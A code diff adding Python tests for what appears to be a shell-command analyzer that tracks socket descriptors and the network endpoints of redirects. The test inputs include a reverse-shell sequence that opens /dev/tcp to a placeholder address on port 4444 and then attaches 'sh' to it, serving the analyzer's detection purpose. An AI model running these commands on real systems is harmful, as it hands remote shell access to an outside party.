@@ -1464,3 +1464,24 @@ def test_a_text_with_an_error_is_parsed_as_given(text):
     assert tree.root_node.has_error
     assert tree.root_node.end_byte == len(data)
     assert _shape(tree.root_node) == _shape(parser.parse(data).root_node)
+
+
+def test_the_run_s_shell_keeps_socket_descriptors():
+    reader, session = ShellReader(), Session()
+    reader.read("exec 3<>/dev/tcp/203.0.113.5/4444", session)
+    reader.read("exec 5>/dev/udp/198.51.100.2/53 6>/tmp/log", session)
+    assert session.sockets == {"3": "/dev/tcp/203.0.113.5/4444", "5": "/dev/udp/198.51.100.2/53"}
+    (sh,) = reader.read("sh <&3 >&3", session)
+    assert sh.redirects == ["<&3", "<&3=/dev/tcp/203.0.113.5/4444", ">&3", ">&3=/dev/tcp/203.0.113.5/4444"]
+    assert [e.host for e in sh.endpoints] == ["203.0.113.5", "203.0.113.5"]
+    reader.read("exec 3>&- 5<&-", session)
+    assert session.sockets == {}
+    (sh,) = reader.read("sh <&3", session)
+    assert sh.redirects == ["<&3"]
+
+
+def test_a_subshell_s_exec_keeps_nothing_for_the_run():
+    reader, session = ShellReader(), Session()
+    reader.read("bash -c 'exec 3<>/dev/tcp/203.0.113.5/4444'", session)
+    reader.read("exec python3 -c 'print(1)' 3<>/dev/tcp/203.0.113.5/4444", session)  # replaces the shell
+    assert session.sockets == {}
